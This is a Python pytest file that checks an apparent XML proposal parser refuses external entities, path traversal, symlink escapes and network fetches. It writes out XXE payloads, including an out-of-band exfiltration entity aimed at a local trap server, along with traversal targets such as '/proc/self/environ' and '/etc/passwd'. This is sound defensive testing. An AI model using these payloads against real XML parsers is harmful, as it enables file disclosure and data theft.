"""No document makes its reader open a file outside the tree, or ask a server for anything.

The secret lies beside the tree and is a valid entity file, so that reading it would show. A named
pipe lies there too: whoever opens it waits for ever. The server is real and remembers who asked.
"""

import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from xeptools import Xep, XeptoolsError, parse, resolve
from xeptools.tree import Tree, facts_of

pytestmark = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")

SECRET = "SECRET"


class Server(http.server.ThreadingHTTPServer):
    """Remembers what it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: list[str] = []


class Handler(http.server.BaseHTTPRequestHandler):
    """Gives the secret to anybody."""

    server: Server

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f"<!ENTITY leak '{SECRET}'>".encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    server = Server()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()
    assert server.asked == []


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A tree with links that lead out of it, beside what nobody may read."""
    (tmp_path / "secret.ent").write_text(f"<!ENTITY leak '{SECRET}'>")
    os.mkfifo(tmp_path / "pipe")
    root = tmp_path / "tree"
    (root / "inbox").mkdir(parents=True)
    (root / "xep.ent").write_text("<!ENTITY fine 'fine'>")
    (root / "link.ent").symlink_to("../secret.ent")
    (root / "absolute.ent").symlink_to(tmp_path / "secret.ent")
    (root / "pipe.ent").symlink_to("../pipe")
    (root / "out").symlink_to("..")
    (root / "loop.ent").symlink_to("loop.ent")
    return root


def targets(tree: Path, server: Server) -> list[str]:
    """Every way to name what lies outside."""
    outside = tree.parent
    port = server.server_address[1]
    return [
        *(f"{outside}/{name}" for name in ("secret.ent", "pipe")),
        *(f"file://{outside}/{name}" for name in ("secret.ent", "pipe")),
        f"file://localhost{outside}/secret.ent",
        f"FILE:{outside}/secret.ent",
        *(f"../{name}" for name in ("secret.ent", "pipe")),
        "inbox/../../secret.ent",
        "./.././secret.ent",
        "..//secret.ent",
        "%2e%2e/secret.ent",
        "..\\secret.ent",
        *("link.ent", "absolute.ent", "pipe.ent", "out/secret.ent", "out/pipe", "loop.ent"),
        f"http://127.0.0.1:{port}/a.ent",
        f"http://127.0.0.1:{port}/xep.ent",
        f"//127.0.0.1:{port}/a.ent",
        f"\\\\127.0.0.1:{port}\\a.ent",
        f"ftp://127.0.0.1:{port}/a.ent",
        f"jar:http://127.0.0.1:{port}/a.jar!/a.ent",
        "data:text/plain;base64,PCFFTlRJVFkgbGVhayAnU0VDUkVUJz4=",
        "/dev/stdin",
        "/proc/self/environ",
        ".",
        "inbox",
        "",
        "a" * 5000,
    ]


def document(subset: str = "", *, doctype: str = "SYSTEM 'xep.dtd'", body: str = "") -> bytes:
    return (
        "<?xml version='1.0'?>\n<?xml-stylesheet type='text/xsl' href='xep.xsl'?>\n"
        f"<!DOCTYPE xep {doctype} [\n"
        f"{subset}\n]>\n<xep><header><title>&leak;</title></header>"
        f"<section1 topic='&leak;'><p class='&leak;'>&leak;{body}</p></section1></xep>"
    ).encode()


ATTACKS = {
    "general entity": '<!ENTITY leak SYSTEM "{target}">',
    "public general entity": "<!ENTITY leak PUBLIC '-//X' \"{target}\">",
    "unparsed entity": '<!ENTITY leak SYSTEM "{target}" NDATA text>',
    "parameter entity": '<!ENTITY % all SYSTEM "{target}">%all;',
    "public parameter entity": "<!ENTITY % all PUBLIC '-//X' \"{target}\">%all;",
    "parameter entity in a parameter entity": (
        "<!ENTITY % all '<!ENTITY &#37; more SYSTEM \"{target}\">&#37;more;'>%all;"
    ),
    "general entity in a parameter entity": "<!ENTITY % all '<!ENTITY leak SYSTEM \"{target}\">'>%all;",
    "exfiltration": (
        '<!ENTITY % file SYSTEM "{target}">'
        "<!ENTITY % send \"<!ENTITY &#37; out SYSTEM '{server}?%file;'>\">%send;%out;"
    ),
    "after the shared file": "<!ENTITY % ents SYSTEM 'xep.ent'>%ents;<!ENTITY leak SYSTEM \"{target}\">",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("lone", [False, True], ids=["in a tree", "alone"])
def test_declarations_open_nothing_outside(attack: str, lone: bool, tree: Path, server: Server) -> None:
    for target in targets(tree, server):
        subset = attack.replace("{target}", target).replace(
            "{server}", f"http://127.0.0.1:{server.server_address[1]}/"
        )
        if lone:
            xep = resolve(parse(document(subset)))
        else:
            path = tree / "xep-0001.xml"
            path.write_bytes(document(subset))
            xep = resolve(parse(path))
        assert SECRET not in repr(xep), target
        assert {found.rule for found in xep.diagnostics} & {
            "document/external-entity",
            "document/broken-entity-file",
            "document/undeclared-entity",
        }, target


@pytest.mark.parametrize("attack", ['SYSTEM "{target}"', "PUBLIC '-//X' \"{target}\""])
def test_the_external_subset_is_never_read(attack: str, tree: Path, server: Server) -> None:
    path = tree / "xep-0001.xml"
    for target in targets(tree, server):
        path.write_bytes(document(doctype=attack.replace("{target}", target)))
        assert SECRET not in repr(resolve(parse(path)))


def test_what_other_readers_of_xml_would_follow_is_not_followed(tree: Path, server: Server) -> None:
    path = tree / "xep-0001.xml"
    for target in targets(tree, server):
        data = document(
            body=f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{target}' parse='text'/>"
            f"<img src='{target}'/><link url='{target}'>x</link>"
            "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
            f" xsi:noNamespaceSchemaLocation='{target}'/>"
        ).replace(b"xep.xsl", target.encode())
        path.write_bytes(data)
        assert SECRET not in repr(resolve(parse(path)))


@pytest.mark.parametrize("kind", ["general", "parameter"])
def test_a_tree_s_own_entity_file_opens_nothing_either(kind: str, tree: Path, server: Server) -> None:
    path = tree / "xep-0001.xml"
    path.write_bytes(document("<!ENTITY % ents SYSTEM 'xep.ent'>%ents;", body="&fine;"))
    sign, use = ("% ", "%leak;") if kind == "parameter" else ("", "")
    for number, target in enumerate(targets(tree, server)):
        (tree / "xep.ent").write_text(f"<!ENTITY fine 'fine'><!ENTITY {sign}leak SYSTEM \"{target}\">{use}")
        os.utime(tree / "xep.ent", ns=(number, number))
        xep = resolve(parse(path))
        assert SECRET not in repr(xep)
        assert "fine" in repr(xep.sections)


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        ("/etc/hosts", "it is an address or an absolute path"),
        ("C:/a.ent", "it is an address or an absolute path"),
        ("http://127.0.0.1/xep.ent", "it is an address or an absolute path"),
        ("..\\xep.ent", "it is an address or an absolute path"),
        ("../secret.ent", "it leads out of the tree"),
        ("link.ent", "it leads out of the tree"),
        ("absent.ent", "there is no such file"),
        ("loop.ent", "there is no such file"),
        ("inbox", "it is not a file"),
    ],
)
def test_why_a_file_is_refused(target: str, reason: str, tree: Path) -> None:
    path = tree / "xep-0001.xml"
    path.write_bytes(document(f"<!ENTITY % all SYSTEM '{target}'>%all;"))
    assert refused(resolve(parse(path))) == reason


def refused(xep: Xep) -> str:
    """Why the entity file was refused."""
    (reason,) = (found.message for found in xep.diagnostics if found.rule == "document/external-entity")
    return reason.partition("not read: ")[2]


def test_a_shared_file_that_is_a_link_out_of_the_tree_is_refused(tree: Path) -> None:
    (tree / "xep.ent").unlink()
    (tree / "xep.ent").symlink_to("../secret.ent")
    path = tree / "xep-0001.xml"
    path.write_bytes(document("<!ENTITY % ents SYSTEM 'xep.ent'>%ents;"))
    xep = resolve(parse(path, tree=tree))
    assert refused(xep) == "it leads out of the tree"
    assert SECRET not in repr(xep)
    assert SECRET not in repr(resolve(parse(path)))


def test_a_file_of_the_tree_may_be_used(tree: Path) -> None:
    (tree / "inbox" / "more.ent").write_text("<!ENTITY leak 'welcome'>")
    path = tree / "xep-0001.xml"
    path.write_bytes(document("<!ENTITY % more SYSTEM 'inbox/more.ent'>%more;"))
    assert "welcome" in repr(resolve(parse(path)).sections)
    path = tree / "inbox" / "draft.xml"
    path.write_bytes(document("<!ENTITY % more SYSTEM '../inbox/more.ent'>%more;"))
    assert "welcome" in repr(resolve(parse(path)).sections)


def test_no_document_uses_ever_more_files(tree: Path) -> None:
    subset = ""
    for number in range(20):
        (tree / f"{number}.ent").write_text(f"<!ENTITY e{number} 'x'>")
        subset += f"<!ENTITY % p{number} SYSTEM '{number}.ent'>%p{number};"
    path = tree / "xep-0001.xml"
    path.write_bytes(document(subset + "<!ENTITY leak ''>", body="&e7;"))
    found = parse(path).diagnostics
    assert len(found) == 12
    assert {one.message.partition(": ")[2] for one in found} == {
        "it is one more than the 8 that a document may use"
    }


def test_an_external_entity_is_told_where_it_is_used() -> None:
    xep = resolve(parse(document("<!ENTITY leak SYSTEM 'a.txt'>")))
    (found,) = xep.diagnostics
    assert found.rule == "document/external-entity"
    assert found.message == "&leak; is an external entity, and those are never read"
    assert found.hint == "write its text into the document"


def test_an_external_entity_shadows_one_of_the_shared_file() -> None:
    text = document("<!ENTITY XSF SYSTEM '/etc/passwd'><!ENTITY % ents SYSTEM 'xep.ent'>%ents;", body="&XSF;")
    messages = [found.message for found in resolve(parse(text)).diagnostics]
    assert "&XSF; is an external entity, and those are never read" in messages


def test_documents_that_lead_out_of_the_tree_are_none_of_it(tree: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.xml").write_bytes(document(f"<!ENTITY leak '{SECRET}'>"))
    (tree / "xep-0001.xml").write_bytes(document("<!ENTITY leak 'fine'>"))
    (tree / "xep-0002.xml").symlink_to("../secret.xml")
    (tree / "xep-0003.xml").symlink_to(tmp_path / "secret.xml")
    (tree / "xep-0004.xml").symlink_to("xep-0004.xml")
    (tree / "xep-0005.xml").symlink_to("../pipe")
    (tree / "xep-0006.xml").symlink_to("nowhere.xml")
    (tree / "xep-0007.xml").symlink_to("xep-0001.xml")
    (tree / "inbox" / "other.xml").symlink_to("../../secret.xml")
    assert [document.name for document in Tree(tree).documents] == ["xep-0001", "xep-0007"]


def test_a_folder_of_proposals_that_leads_out_of_the_tree_is_none_of_it(tree: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "other.xml").write_bytes(document(f"<!ENTITY leak '{SECRET}'>"))
    (tree / "xep-0001.xml").write_bytes(document("<!ENTITY leak 'fine'>"))
    (tree / "inbox").rmdir()
    (tree / "inbox").symlink_to("../elsewhere")
    assert [document.name for document in Tree(tree).documents] == ["xep-0001"]


def test_a_tree_may_itself_be_a_link(tree: Path, tmp_path: Path) -> None:
    (tree / "xep-0001.xml").write_bytes(document("<!ENTITY % ents SYSTEM 'xep.ent'>%ents;", body="&fine;"))
    (tmp_path / "alias").symlink_to("tree")
    (document_,) = Tree(tmp_path / "alias").documents
    assert facts_of(document_, tmp_path / "alias").number == "0001"
    assert "fine" in repr(resolve(parse(tmp_path / "alias" / "xep-0001.xml")).sections)


def test_a_document_that_is_no_file_is_the_caller_s_trouble(tree: Path) -> None:
    with pytest.raises(XeptoolsError):
        parse(tree / "inbox")
    with pytest.raises(XeptoolsError):
        parse(tree / "loop.ent")
